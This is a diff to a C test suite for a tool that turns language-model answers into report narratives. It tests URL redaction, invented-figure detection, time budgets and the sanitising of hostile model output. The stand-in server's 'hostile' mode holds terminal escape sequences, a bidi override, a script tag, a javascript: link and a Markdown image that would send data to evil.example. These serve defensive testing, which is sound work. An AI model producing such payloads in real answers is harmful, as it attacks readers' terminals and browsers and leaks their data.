@@ -47,10 +47,17 @@
 
 /* ------------------------------------------------------------------ the stand-in server */
 
-enum { M_OK, M_NDJSON, M_FAIL500, M_SLEEP, M_FIGURES, M_GARBAGE, M_CUT, M_N };
-static const char *k_modes[M_N] = {
-    "ok", "ndjson", "fail500", "sleep", "figures", "garbage", "cut"
-};
+enum { M_OK, M_NDJSON, M_FAIL500, M_SLEEP, M_FIGURES, M_GARBAGE, M_CUT, M_HOSTILE, M_ESCERR, M_N };
+static const char *k_modes[M_N] = { "ok",      "ndjson", "fail500", "sleep", "figures",
+                                    "garbage", "cut",    "hostile", "escerr" };
+
+/* What /hostile answers: a terminal escape (ESC and the one-byte C1 CSI), a bidi override, a
+ * byte that is not UTF-8, HTML and a Markdown image whose URL would carry data away. */
+#define HOSTILE_TEXT                      \
+    "Paths\x1b]0;owned\x07 rise\xc2\x9b"  \
+    "2J \xe2\x80\xae"                     \
+    "evil\xff <script>alert(1)</script> " \
+    "![x](http://evil.example/p.png?d=AAPL) [click](javascript:alert(1))"
 
 static struct MHD_Daemon *g_mhd;
 static int g_port, g_closed_port;
@@ -151,6 +158,10 @@ static enum MHD_Result handle(struct MHD_Connection *c, const char *url, const c
                  prob);
         break;
     case M_FAIL500: return reject(c, 500, "model crashed");
+    case M_HOSTILE: snprintf(text, sizeof text, "%s", HOSTILE_TEXT); break;
+    case M_ESCERR:
+        return respond(c, 500, "application/json",
+                       "{\"error\":\"bad\\u001b[2J\\u001b]0;owned\\u0007 \\u009b\xff model\"}");
     case M_GARBAGE: return respond(c, 200, "text/html", "<html>not json</html>");
     case M_NDJSON:
     case M_CUT:
@@ -389,6 +400,9 @@ static void test_endpoint(void **state) {
         { "http://127.0.0.1:11434/api/generate", "http://127.0.0.1:11434/api/generate" },
         { "http://127.0.0.1:11434/api/generate//", "http://127.0.0.1:11434/api/generate" },
         { "HTTPS://llm.example/ollama", "HTTPS://llm.example/ollama/api/generate" },
+        /* The suffix goes on the path, not into the query string. */
+        { "http://h:1/ollama?key=abc", "http://h:1/ollama/api/generate?key=abc" },
+        { "http://h:1/api/generate/?key=abc", "http://h:1/api/generate?key=abc" },
     };
     char out[256];
     kr_error err;
@@ -396,12 +410,21 @@ static void test_endpoint(void **state) {
         assert_int_equal(kr_narrative_endpoint(ok[i][0], out, sizeof out, &err), KR_OK);
         assert_string_equal(out, ok[i][1]);
     }
-    static const char *bad[] = { "",        "ftp://host", "127.0.0.1:11434",
-                                 "http://", "http:///x",  "http://a b/" };
+    static const char *bad[] = { "",          "ftp://host",  "127.0.0.1:11434", "http://",
+                                 "http:///x", "http://a b/", "http://h/x#frag" };
     for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++)
         assert_int_equal(kr_narrative_endpoint(bad[i], out, sizeof out, &err), KR_ERR_INVALID_ARG);
     assert_int_equal(kr_narrative_endpoint("http://h", out, 10, &err), KR_ERR_INVALID_ARG);
     assert_int_equal(kr_narrative_endpoint(NULL, out, sizeof out, &err), KR_ERR_INVALID_ARG);
+    /* Errors show the URL without its password or query string. */
+    static const char *secret[] = { "http://user:s3cret@a b/", "ftp://user:s3cret@h/",
+                                    "http://h/x?key=s3cret#f", "http://h/\x1b[2J?key=s3cret" };
+    for (size_t i = 0; i < sizeof secret / sizeof secret[0]; i++) {
+        assert_int_equal(kr_narrative_endpoint(secret[i], out, sizeof out, &err),
+                         KR_ERR_INVALID_ARG);
+        if (strstr(err.message, "s3cret") || strchr(err.message, 0x1b))
+            fail_msg("'%s' gave '%s'", secret[i], err.message);
+    }
 
     /* Credentials in the URL are used but never written into the report. */
     kr_narrative_params p = kr_narrative_default_params();
@@ -419,6 +442,13 @@ static void test_endpoint(void **state) {
     assert_string_equal(n->url, out);
     kr_narrative_free(n);
     kr_narrative_free(NULL);
+    /* A query string (a proxy's key) reaches the server after the path, and is not shown. */
+    snprintf(url, sizeof url, "http://127.0.0.1:%d/ok?token=s3cret", g_port);
+    n = generate(g_set->reports[0], &p);
+    if (!n->text) fail_msg("%s", n->error);
+    snprintf(out, sizeof out, "http://127.0.0.1:%d/ok/api/generate?...", g_port);
+    assert_string_equal(n->url, out);
+    kr_narrative_free(n);
 }
 
 static void parse_ok(const char *body, const char *want) {
@@ -483,6 +513,10 @@ static void test_guard(void **state) {
         { "Some 87.53% of paths.", 1, "87.53" },
         { "It could gain 12.5% or 14%.", 2, "12.5" },
         { "A million: 1,000,000.", 1, "1,000,000" },
+        /* The digits of a key are not a figure: close_p90 gave no 90. */
+        { "A 90% chance of a rise.", 1, "90" },
+        /* A date's parts are figures for dates only: no "8%" from 2025-08-01. */
+        { "On August 1, 2025 (08/01), an 8% gain or 1 percent.", 2, "8" },
     };
     char first[48];
     for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
@@ -492,6 +526,94 @@ static void test_guard(void **state) {
                      cases[i].bad, first, cases[i].first);
     }
     assert_int_equal(kr_narrative_unsupported_figures(NULL, data, first, sizeof first), 0);
+}
+
+/* The real prompt's keys carry digits (rsi_14, var95_pct, close_p90, volume_ratio_5_20):
+ * a narrative inventing "a 95% chance" must not pass because of them. */
+static void test_guard_ignores_keys(void **state) {
+    (void)state;
+    const char *data = "{\"rsi_14\":55.2,\"var95_pct\":3.10,\"close_p90\":240.10,"
+                       "\"summary\":[\"RSI 55.2 over 14 bars.\"]}";
+    char first[48];
+    assert_int_equal(kr_narrative_unsupported_figures("A 95% chance; a p90 of 240.1, RSI_14 55.2.",
+                                                      data, first, sizeof first),
+                     1);
+    assert_string_equal(first, "95");
+    /* Numbers within a string value (a summary sentence) are figures given. */
+    assert_int_equal(kr_narrative_unsupported_figures("The RSI over 14 bars is 55.2.", data, first,
+                                                      sizeof first),
+                     0);
+}
+
+/* Cleaning an answer: no control character (C0, DEL, C1), no bidi override, valid UTF-8. */
+static void test_parse_answer_hostile(void **state) {
+    (void)state;
+    parse_ok("{\"response\":\"a\\u009bb\\u202ec\xff\xfe"
+             "d\xc0\xaf"
+             "e\xed\xa0\x80"
+             "f\\u00e9\",\"done\":true}",
+             "a b c\xef\xbf\xbd\xef\xbf\xbd"
+             "d\xef\xbf\xbd\xef\xbf\xbd"
+             "e\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd"
+             "f\xc3\xa9");
+}
+
+static int has_byte(const char *s, unsigned char lo, unsigned char hi) {
+    for (; *s; s++)
+        if ((unsigned char)*s >= lo && (unsigned char)*s <= hi) return 1;
+    return 0;
+}
+
+/* An answer written to attack the reader: every rendering shows it inert. */
+static void test_hostile_answer(void **state) {
+    (void)state;
+    kr_report *r = g_set->reports[0];
+    expect_report(r);
+    kr_narrative_params p = params("hostile", 10);
+    kr_narrative *n = generate(r, &p);
+    if (!n->text) fail_msg("%s", n->error);
+    assert_null(strchr(n->text, 0x1b));
+    assert_null(strchr(n->text, 0x07));
+    assert_null(strstr(n->text, "\xc2\x9b"));
+    assert_null(strstr(n->text, "\xe2\x80\xae"));
+    assert_non_null(strstr(n->text, "evil\xef\xbf\xbd ")); /* the bad byte as U+FFFD */
+    r->narrative = n;
+    char *json = render(KR_FORMAT_JSON), *md = render(KR_FORMAT_MD), *html = render(KR_FORMAT_HTML);
+    r->narrative = NULL;
+    const char *docs[] = { json, md, html };
+    for (int i = 0; i < 3; i++) {
+        assert_false(has_byte(docs[i], 0x01, 0x08) || has_byte(docs[i], 0x1b, 0x1b));
+        assert_null(strstr(docs[i], "\xff"));
+        /* JSON carries the text as data; the documents must not carry it as markup. */
+        if (docs[i] != json) assert_null(strstr(docs[i], "<script>alert"));
+    }
+    /* The JSON is valid and keeps the text; Markdown shows the image and link as text. */
+    cJSON *doc = cJSON_Parse(json);
+    cJSON *jn = cJSON_GetObjectItem(report_json(doc, 0), "narrative");
+    assert_string_equal(cJSON_GetObjectItem(jn, "text")->valuestring, n->text);
+    cJSON_Delete(doc);
+    assert_null(strstr(md, "![x]("));
+    assert_null(strstr(md, "[click]("));
+    assert_non_null(strstr(md, "!\\[x\\](http://evil.example/p.png?d=AAPL)"));
+    assert_non_null(strstr(md, "&lt;script&gt;"));
+    assert_non_null(strstr(html, "&lt;script&gt;alert(1)&lt;/script&gt;"));
+    kr_narrative_free(n);
+
+    /* An error body with escapes: the reason is quoted cleaned, on one line. */
+    p = params("escerr", 10);
+    n = generate(r, &p);
+    assert_null(n->text);
+    assert_int_equal(n->http_status, 500);
+    assert_null(strchr(n->error, 0x1b));
+    assert_null(strchr(n->error, 0x07));
+    assert_null(strstr(n->error, "\xc2\x9b"));
+    assert_null(strstr(n->error, "\xff"));
+    if (!strstr(n->error, "HTTP 500: bad [2J ]0;owned  ") || !strstr(n->error, " model"))
+        fail_msg("error '%s'", n->error);
+    free(json);
+    free(md);
+    free(html);
+    kr_narrative_free(n);
 }
 
 static void test_prompt_and_body(void **state) {
@@ -805,6 +927,63 @@ static void test_timeout(void **state) {
     kr_narrative_free(n);
 }
 
+static void detach(void) {
+    for (int i = 0; i < g_set->n; i++) g_set->reports[i]->narrative = NULL;
+}
+
+static int abort_always(void *user) {
+    atomic_fetch_add((atomic_int *)user, 1);
+    return 1;
+}
+
+/* A budget for the whole set (a server's request deadline): a model slower than what is left
+ * is cut when it is spent, whatever the per-request timeout; once it is spent nobody is asked;
+ * and should_abort stops a request (a client that left). */
+static void test_budget_and_abort(void **state) {
+    (void)state;
+    char a[64], b[64];
+    prob_figure(g_set->reports[0], a, sizeof a);
+    prob_figure(g_set->reports[1], b, sizeof b);
+    expect_probs(a, b);
+    char url[256];
+    snprintf(url, sizeof url, "http://127.0.0.1:%d/sleep/api/generate: ", g_port);
+
+    kr_narrative_params p = params("sleep", 30);
+    p.budget_s = 0.5;
+    int hits = atomic_load(&g_hits[M_SLEEP]);
+    kr_narrative **v = NULL;
+    kr_error err = { 0 };
+    assert_int_equal(kr_narrative_attach_all(g_set, &p, &v, &err), KR_OK);
+    detach();
+    /* Without the budget the answer would come after SLEEP_SECONDS, well within 30 s. */
+    expect_failure(v[0], KR_ERR_TIMEOUT, url, "(timeout)");
+    assert_null(v[1]->text);
+    assert_int_equal(v[1]->status, KR_ERR_TIMEOUT);
+    assert_int_equal(atomic_load(&g_hits[M_SLEEP]), hits + 1);
+    kr_narrative_free_all(v, g_set->n);
+
+    /* Spent before the first request: not asked at all, and the error says so. */
+    p.budget_s = 1e-9;
+    assert_int_equal(kr_narrative_attach_all(g_set, &p, &v, &err), KR_OK);
+    detach();
+    for (int i = 0; i < g_set->n; i++)
+        expect_failure(v[i], KR_ERR_TIMEOUT, url, "not asked: the 0.0 s allowed");
+    assert_int_equal(atomic_load(&g_hits[M_SLEEP]), hits + 1);
+    kr_narrative_free_all(v, g_set->n);
+
+    /* Stopped by the caller: cancelled, and the others not asked. */
+    atomic_int polls = 0;
+    p = params("sleep", 30);
+    p.should_abort = abort_always;
+    p.abort_user = &polls;
+    assert_int_equal(kr_narrative_attach_all(g_set, &p, &v, &err), KR_OK);
+    detach();
+    expect_failure(v[0], KR_ERR_CANCELLED, url, "stopped by the caller");
+    assert_int_equal(v[1]->status, KR_ERR_CANCELLED);
+    assert_true(atomic_load(&polls) >= 1);
+    kr_narrative_free_all(v, g_set->n);
+}
+
 static void test_figures_not_in_report(void **state) {
     (void)state;
     kr_report *r = g_set->reports[0];
@@ -832,10 +1011,6 @@ static void test_figures_not_in_report(void **state) {
     free(md);
     free(html);
     kr_narrative_free(n);
-}
-
-static void detach(void) {
-    for (int i = 0; i < g_set->n; i++) g_set->reports[i]->narrative = NULL;
 }
 
 static void test_batch(void **state) {
@@ -1014,12 +1189,16 @@ int main(void) {
         cmocka_unit_test(test_endpoint),
         cmocka_unit_test(test_parse_answer),
         cmocka_unit_test(test_guard),
+        cmocka_unit_test(test_guard_ignores_keys),
+        cmocka_unit_test(test_parse_answer_hostile),
+        cmocka_unit_test(test_hostile_answer),
         cmocka_unit_test(test_prompt_and_body),
         cmocka_unit_test(test_success_in_every_format),
         cmocka_unit_test(test_ndjson_answer),
         cmocka_unit_test(test_http_500),
         cmocka_unit_test(test_connection_refused),
         cmocka_unit_test(test_timeout),
+        cmocka_unit_test(test_budget_and_abort),
         cmocka_unit_test(test_figures_not_in_report),
         cmocka_unit_test(test_batch),
         cmocka_unit_test(test_cli),
